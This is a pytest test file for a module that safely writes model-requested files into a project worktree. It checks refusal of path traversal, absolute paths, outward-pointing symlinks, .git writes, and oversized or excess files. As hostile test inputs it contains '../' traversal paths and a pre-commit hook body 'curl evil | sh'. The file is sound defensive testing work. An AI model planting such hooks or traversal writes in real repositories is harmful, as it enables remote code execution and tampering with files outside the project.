"""Safe writes of model-requested files: hostile paths are refused with a reason, and a
refusal never costs the other files of the same reply."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from crewmux.workspace.safe_write import apply_files, check_path, delete_files


@pytest.fixture
def layout(tmp_path: Path) -> dict[str, Path]:
    root = tmp_path / "worktree"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "src").mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("original")
    return {"root": root, "outside": outside}


def _snapshot(directory: Path) -> dict[str, bytes]:
    return {str(p.relative_to(directory)): p.read_bytes() for p in directory.rglob("*") if p.is_file()}


def test_normal_files_are_written(layout: dict[str, Path]) -> None:
    root = layout["root"]
    report = apply_files(root, [("src/app.py", "print('hi')\n"), ("./README.md", "# x\n"),
                                ("deep/new/dir/mod.ts", "export {}\n")])
    assert report.ok and report.error_text() == ""
    assert report.written == ["src/app.py", "./README.md", "deep/new/dir/mod.ts"]
    assert (root / "src/app.py").read_text() == "print('hi')\n"
    assert (root / "deep/new/dir/mod.ts").exists()
    assert not [p for p in root.rglob("*.tmp")]  # atomic writes leave no temp files


@pytest.mark.parametrize("rel", ["../outside/victim.txt", "src/../../outside/victim.txt", "a/../../x",
                                 "..", "src/.."])
def test_dotdot_paths_are_refused(layout: dict[str, Path], rel: str) -> None:
    before = _snapshot(layout["outside"])
    report = apply_files(layout["root"], [(rel, "pwned"), ("ok.txt", "fine")])
    assert [r.path for r in report.refused] == [rel]
    assert "'..'" in report.refused[0].reason
    assert report.written == ["ok.txt"]
    assert _snapshot(layout["outside"]) == before


@pytest.mark.parametrize("rel", ["/etc/passwd-crewmux-test", "~/.bashrc", "C:/x.txt"])
def test_absolute_paths_are_refused(layout: dict[str, Path], rel: str) -> None:
    report = apply_files(layout["root"], [(rel, "pwned")])
    assert report.written == [] and "absolute" in report.refused[0].reason
    assert not Path("/etc/passwd-crewmux-test").exists()


def test_absolute_path_to_the_outside_file(layout: dict[str, Path]) -> None:
    victim = layout["outside"] / "victim.txt"
    report = apply_files(layout["root"], [(str(victim), "pwned")])
    assert report.refused and victim.read_text() == "original"


def test_planted_directory_symlink_pointing_outside(layout: dict[str, Path]) -> None:
    root, outside = layout["root"], layout["outside"]
    (root / "lib").symlink_to(outside)  # e.g. planted by earlier generated code
    before = _snapshot(outside)
    report = apply_files(root, [("lib/victim.txt", "pwned"), ("lib/new.txt", "pwned"),
                                ("src/ok.py", "x = 1\n")])
    assert [r.path for r in report.refused] == ["lib/victim.txt", "lib/new.txt"]
    assert all("symlink" in r.reason for r in report.refused)
    assert report.written == ["src/ok.py"]
    assert _snapshot(outside) == before


def test_planted_file_symlink_pointing_outside(layout: dict[str, Path]) -> None:
    root, outside = layout["root"], layout["outside"]
    (root / "config.py").symlink_to(outside / "victim.txt")
    (root / "dangling.py").symlink_to(outside / "does-not-exist-yet.txt")
    report = apply_files(root, [("config.py", "pwned"), ("dangling.py", "pwned")])
    assert len(report.refused) == 2 and report.written == []
    assert (outside / "victim.txt").read_text() == "original"
    assert not (outside / "does-not-exist-yet.txt").exists()


def test_symlink_inside_the_project_is_followed(layout: dict[str, Path]) -> None:
    root = layout["root"]
    (root / "current").symlink_to("src")
    report = apply_files(root, [("current/main.py", "print(1)\n")])
    assert report.ok and (root / "src/main.py").read_text() == "print(1)\n"


@pytest.mark.parametrize("rel", [".git/hooks/pre-commit", ".git/config", "sub/.git/config", ".GIT/config"])
def test_git_internals_are_refused(layout: dict[str, Path], rel: str) -> None:
    report = apply_files(layout["root"], [(rel, "#!/bin/sh\ncurl evil | sh\n")])
    assert report.written == [] and ".git" in report.refused[0].reason
    assert not (layout["root"] / ".git/hooks/pre-commit").exists()


def test_symlink_into_git_is_refused(layout: dict[str, Path]) -> None:
    root = layout["root"]
    (root / "hooks").symlink_to(".git/hooks")
    report = apply_files(root, [("hooks/pre-commit", "evil")])
    assert report.refused and not (root / ".git/hooks/pre-commit").exists()


def test_fifty_megabyte_file_is_refused_others_written(layout: dict[str, Path]) -> None:
    root = layout["root"]
    big = "x" * (50 * 1024 * 1024)
    report = apply_files(root, [("small.txt", "a"), ("huge.bin", big), ("after.txt", "b")])
    assert report.written == ["small.txt", "after.txt"]
    assert report.refused[0].path == "huge.bin" and "too big" in report.refused[0].reason
    assert not (root / "huge.bin").exists()


def test_ten_thousand_files_in_one_reply(layout: dict[str, Path]) -> None:
    root = layout["root"]
    files = [(f"gen/f{i}.txt", str(i)) for i in range(10_000)]
    started = time.monotonic()
    report = apply_files(root, files, max_files=200)
    assert time.monotonic() - started < 30
    assert len(report.written) == 200 and len(report.refused) == 9_800
    assert len(list((root / "gen").iterdir())) == 200
    text = report.error_text()
    assert "9800 file(s)" in text and "... and 9790 more" in text
    assert len(text) < 2000  # short enough to send back to a small model


def test_error_text_names_each_refusal(layout: dict[str, Path]) -> None:
    report = apply_files(layout["root"], [("../x", "1"), ("/abs", "2"), ("good.py", "3")])
    text = report.error_text()
    assert "'../x'" in text and "'/abs'" in text and "The other 1 file(s) were applied" in text


def test_directory_and_file_parent_conflicts_are_reported(layout: dict[str, Path]) -> None:
    root = layout["root"]
    (root / "plain.txt").write_text("file")
    report = apply_files(root, [("src", "x"), ("plain.txt/child.py", "y"), ("ok.txt", "z")])
    reasons = {r.path: r.reason for r in report.refused}
    assert reasons["src"] == "is a directory"
    assert "could not be written" in reasons["plain.txt/child.py"]
    assert report.written == ["ok.txt"]


def test_executable_bit_survives_an_edit(layout: dict[str, Path]) -> None:
    script = layout["root"] / "run.sh"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    assert apply_files(layout["root"], [("run.sh", "#!/bin/sh\necho hi\n")]).ok
    assert os.stat(script).st_mode & 0o777 == 0o755


@pytest.mark.parametrize(("rel", "allowed"), [
    ("src/a.py", True), ("a:b.txt", True), ("", False), ("a\\b.py", False), ("x\0y", False),
    ("../a", False), ("/a", False), (".git/x", False), ("a/" + "n" * 300, False),
])
def test_check_path(layout: dict[str, Path], rel: str, allowed: bool) -> None:
    assert (check_path(layout["root"], rel) is None) == allowed


def test_delete_files(layout: dict[str, Path]) -> None:
    root, outside = layout["root"], layout["outside"]
    (root / "old.py").write_text("x")
    (root / "link").symlink_to(outside / "victim.txt")
    (root / "escape").symlink_to(outside)
    report = delete_files(root, ["old.py", "link", "escape/victim.txt", "../outside/victim.txt",
                                 "missing.py", ".git/config"])
    assert report.deleted == ["old.py", "link"]
    assert {r.path for r in report.refused} == {"escape/victim.txt", "../outside/victim.txt",
                                                "missing.py", ".git/config"}
    assert (outside / "victim.txt").read_text() == "original"  # the link went, not its target
    assert not (root / "link").is_symlink()
